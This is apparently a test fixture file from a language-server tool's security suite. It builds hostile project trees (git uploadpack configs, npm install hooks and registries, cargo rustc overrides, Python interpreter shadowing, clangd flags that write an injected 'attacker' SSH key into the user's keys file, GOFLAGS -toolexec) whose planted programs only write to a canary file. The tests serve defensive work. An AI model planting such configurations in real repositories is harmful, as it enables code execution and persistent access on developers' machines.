import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Files, TYPESCRIPT_PROJECT, type Workspace } from "../support/workspace.ts";

/** The traces that the harm of an attack would leave. */
export interface Target {
	readonly ws: Workspace;
	/** A file outside of the workspace into which every program that is run writes its name. */
	readonly canary: string;
	/** A file of the user's. */
	readonly keys: string;
	/** The address of a listener, `127.0.0.1:PORT`. */
	readonly listener: string;
}

/** A hostile tree, and the file of the query in it. */
export interface Attack {
	readonly title: string;
	/** Programs without which the attack cannot run. */
	readonly needs: readonly string[];
	readonly file: string;
	/** Writes the tree. */
	readonly lay: (target: Target) => void;
	/** The git revision with which the file is compared, if a face takes one. */
	readonly base?: string;
	/** Servers that the user has switched off, so that the attacked one is used. */
	readonly disable?: readonly string[];
	/** Variables of the user's shell, set by the clone. A PATH comes before the usual one. */
	readonly variables?: (target: Target) => Readonly<Record<string, string>>;
	/** True if trust lets it happen: then the test can fail. */
	readonly heedsTrust?: true;
}

export const shell = (canary: string) => `#!/bin/sh\necho "$0 $*" >> '${canary}'\nexit 1\n`;
export const script = (canary: string) =>
	`require("node:fs").appendFileSync(${JSON.stringify(canary)}, __filename + "\\n");\n`;
const python = (canary: string) => `open(${JSON.stringify(canary)}, "a").write(__file__ + "\\n")\n`;

export function put({ ws }: Target, files: Files): void {
	for (const [file, text] of Object.entries(files)) {
		ws.write(file, text);
		if (text.startsWith("#!")) chmodSync(ws.path(file), 0o755);
	}
}

const crate: Files = {
	"Cargo.toml": '[package]\nname = "own"\nversion = "0.1.0"\nedition = "2021"\n',
	"src/lib.rs": "pub fn f() -> i32 {\n    1\n}\n",
};
const rust = ["rust-analyzer", "cargo"];

const packageOf = (version: string) => JSON.stringify({ name: "typescript", version, main: "lib/typescript.js" });

/** A clone's own Python, under every name by which it is searched. */
function pythonTree(target: Target): Files {
	const { canary } = target;
	const evil = shell(canary);
	return {
		"a.py": 'import json\nimport re\nx: int = ""\n',
		".venv/pyvenv.cfg": "home = /usr/bin\nversion = 3.11.0\n",
		".venv/bin/python": evil,
		".venv/bin/python3": evil,
		"json.py": python(canary),
		"re.py": python(canary),
		"sitecustomize.py": python(canary),
		"pyrefly.toml": `python-interpreter-path = "${target.ws.path(".venv/bin/python")}"\n`,
		"pyproject.toml": '[tool.pyright]\nvenvPath = "."\nvenv = ".venv"\n\n[tool.ty.environment]\npython = ".venv"\n',
		".jedi/project.json": '[1, { "environment_path": ".venv/bin/python" }]',
	};
}

export const attacks: readonly Attack[] = [
	{
		title: "a bare repository in a clone",
		needs: ["git"],
		file: "sub/a.ts",
		base: "HEAD",
		lay: (target) => {
			const { ws, canary } = target;
			put(target, {
				...TYPESCRIPT_PROJECT,
				"sub/a.ts": "export const a = 1;\n",
				"sub/HEAD": `${"1".repeat(40)}\n`,
				"sub/objects/k": "",
				"sub/refs/k": "",
				"sub/evil.sh": shell(canary),
				"sub/config":
					'[core]\n\trepositoryformatversion = 1\n\tbare = true\n[extensions]\n\tpartialClone = origin\n[remote "origin"]\n' +
					"\turl = ./nowhere\n\tpromisor = true\n\tuploadpack = ./evil.sh\n",
			});
			const git = (...args: readonly string[]) =>
				execFileSync("git", ["-c", "user.email=a@example.org", "-c", "user.name=A", ...args], {
					cwd: ws.root,
					env: ws.env,
					stdio: "pipe",
				});
			git("init", "-q", ".");
			git("add", "-A", "-f");
			git("commit", "-q", "-m", "first");
		},
	},
	{
		title: "a compiler, a plugin and scripts of node_modules",
		needs: [],
		file: "src/a.ts",
		heedsTrust: true,
		lay: (target) => {
			const evil = script(target.canary);
			return put(target, {
				"package.json":
					'{ "name": "x", "devDependencies": { "typescript": "5.9.3" }, "scripts": { "install": "./evil.sh" } }',
				"tsconfig.json":
					'{ "compilerOptions": { "types": [], "noEmit": true, "plugins": [{ "name": "evil" }, { "name": "../evil" }] } }',
				".npmrc": `registry=http://${target.listener}/\nscript-shell=./evil.sh\n`,
				".pnp.cjs": evil,
				"evil.sh": shell(target.canary),
				"node_modules/.bin/tsc": shell(target.canary),
				"node_modules/.bin/typescript-language-server": shell(target.canary),
				"node_modules/evil/package.json": '{ "name": "evil", "main": "index.js" }',
				"node_modules/evil/index.js": evil,
				"node_modules/typescript/package.json": packageOf("5.9.3"),
				"node_modules/typescript/lib/typescript.js": evil,
				"node_modules/typescript/lib/tsserver.js": evil,
				"node_modules/typescript/lib/_tsserver.js": evil,
				"src/a.ts": "export const a = 1;\n",
			});
		},
	},
	{
		title: "an address to which its configuration connects a known server",
		needs: [],
		file: "src/a.ts",
		heedsTrust: true,
		lay: (target) =>
			put(target, {
				...TYPESCRIPT_PROJECT,
				".pi-lsp.json": JSON.stringify({ servers: { typescript: { connect: target.listener } } }),
				"src/a.ts": "export const a = 1;\n",
			}),
	},
	{
		title: "a root that its configuration moves, past a compiler of cargo's",
		needs: rust,
		file: "src/main.rs",
		heedsTrust: true,
		lay: (target) => {
			const inner = Object.fromEntries(Object.entries(crate).map(([file, text]) => [`evil/${file}`, text]));
			return put(target, {
				...inner,
				"src/main.rs": "fn main() {}\n",
				"evil.sh": shell(target.canary),
				"evil/.cargo/config.toml": `[build]\nrustc = "${target.ws.path("evil.sh")}"\n`,
				".pi-lsp.json": '{ "servers": { "rust-analyzer": { "rootMarkers": ["src"], "looseFiles": true } } }',
			});
		},
	},
	{
		title: "a compiler of cargo's above a submodule",
		needs: rust,
		file: "src/lib.rs",
		heedsTrust: true,
		lay: (target) => {
			const { base } = target.ws;
			put(target, { ...crate, ".git": "gitdir: ../.git/modules/ws\n" });
			mkdirSync(join(base, ".cargo"));
			writeFileSync(join(base, "evil.sh"), shell(target.canary), { mode: 0o755 });
			writeFileSync(join(base, ".cargo/config.toml"), `[build]\nrustc = "${join(base, "evil.sh")}"\n`);
		},
	},
	{
		title: "a toolchain of its own above the workspace",
		needs: rust,
		file: "src/lib.rs",
		heedsTrust: true,
		lay: (target) => {
			const { base } = target.ws;
			put(target, { ...crate, ".git": "gitdir: ../.git/modules/ws\n" });
			mkdirSync(join(base, "tool/bin"), { recursive: true });
			for (const name of ["rust-analyzer", "rustc", "cargo"])
				writeFileSync(join(base, "tool/bin", name), shell(target.canary), { mode: 0o755 });
			writeFileSync(join(base, "rust-toolchain.toml"), `[toolchain]\npath = "${join(base, "tool")}"\n`);
		},
	},
	{
		title: "a build script of an ordinary crate",
		needs: rust,
		file: "src/lib.rs",
		heedsTrust: true,
		lay: (target) =>
			put(target, {
				...crate,
				"build.rs": `fn main() { std::fs::write(${JSON.stringify(target.canary)}, "build.rs").unwrap(); }\n`,
			}),
	},
	{
		title: "links in the place of what cargo writes",
		needs: rust,
		file: "src/lib.rs",
		heedsTrust: true,
		lay: (target) => {
			put(target, crate);
			symlinkSync(join(target.ws.base, "home/planted"), target.ws.path("Cargo.lock"));
		},
	},
	{
		title: "an interpreter and modules of the project",
		needs: ["pyright-langserver"],
		file: "a.py",
		lay: (target) => put(target, pythonTree(target)),
	},
	{
		title: "the same where the person has pyrefly alone",
		needs: ["pyrefly"],
		file: "a.py",
		disable: ["pyright", "basedpyright", "ty", "jedi-language-server", "pylsp", "ruff"],
		heedsTrust: true,
		lay: (target) => put(target, pythonTree(target)),
	},
	{
		title: "a log of the compile database's in the person's keys",
		needs: ["clangd"],
		file: "a.c",
		heedsTrust: true,
		lay: (target) =>
			put(target, {
				"a.c": '#line 1 "x\\nssh-ed25519 AAAA attacker\\n"\n#warning hi\nint main(void) { return 0; }\n',
				"compile_commands.json": JSON.stringify([
					{
						directory: target.ws.root,
						file: "a.c",
						arguments: ["cc", "-Xclang", "-diagnostic-log-file", "-Xclang", target.keys, "a.c"],
					},
				]),
			}),
	},
	{
		title: "a compiler and a plugin of the compile database",
		needs: ["clangd"],
		file: "a.c",
		lay: (target) => {
			const evil = target.ws.path("evil.sh");
			const modules = `-fmodules-cache-path=${join(target.ws.base, "modules")}`;
			const flags = ["-fplugin=./evil.so", "-fmodules", modules, "--serialize-diagnostics", target.keys];
			return put(target, {
				"a.c": "int main(void) { return 0; }\n",
				"evil.sh": shell(target.canary),
				"evil.rsp": `--serialize-diagnostics ${target.keys}\n`,
				".clangd": `CompileFlags:\n  Compiler: ${evil}\n`,
				"compile_commands.json": JSON.stringify([
					{
						directory: target.ws.root,
						file: "a.c",
						arguments: [evil, ...flags, "@evil.rsp", "--config=evil.cfg", "a.c"],
					},
				]),
			});
		},
	},
	{
		title: "a toolchain, variables and flags of cgo",
		needs: ["gopls", "go"],
		file: "a.go",
		lay: (target) => {
			const evil = shell(target.canary);
			return put(target, {
				"go.mod": "module ex\n\ngo 1.22\n\ntoolchain go1.99.0\n\nrequire example.invalid/evil v1.0.0\n",
				"a.go": "package ex\n\n//go:generate ./evil.sh\n\nfunc F() int { return 1 }\n",
				"b.go": 'package ex\n\n// #cgo CFLAGS: -fplugin=./evil.so\n// #cgo pkg-config: evil\nimport "C"\n',
				"go.env": `GOFLAGS=-toolexec=./evil.sh\nGOPROXY=http://${target.listener}\n`,
				".env": `GOFLAGS=-toolexec=./evil.sh\nGOPROXY=http://${target.listener}\n`,
				"evil.sh": evil,
				"pkg-config": evil,
				go: evil,
			});
		},
	},
	{
		title: "a schema that JSON names by its URL",
		needs: ["vscode-json-language-server"],
		file: "a.json",
		heedsTrust: true,
		lay: (target) => put(target, { "a.json": `{ "$schema": "http://${target.listener}/a.json", "a": 1 }\n` }),
	},
	{
		title: "a schema that YAML names by its URL",
		needs: ["yaml-language-server"],
		file: "a.yaml",
		heedsTrust: true,
		lay: (target) =>
			put(target, { "a.yaml": `# yaml-language-server: $schema=http://${target.listener}/a.json\na: 1\n` }),
	},
	{
		title: "a configuration that is a program",
		needs: ["vscode-eslint-language-server"],
		file: "a.js",
		heedsTrust: true,
		lay: (target) =>
			put(target, {
				"package.json": '{ "name": "x", "devDependencies": { "eslint": "9" } }',
				"eslint.config.js": `${script(target.canary)}module.exports = [];\n`,
				// The server loads the file to have it read the configuration.
				"node_modules/eslint/package.json": '{ "name": "eslint", "version": "9.0.0", "main": "index.js" }',
				"node_modules/eslint/index.js": `${script(target.canary)}module.exports = {};\n`,
				"node_modules/eslint/lib/unsupported-api.js": script(target.canary),
				"a.js": "const a = 1;\n",
			}),
	},
];
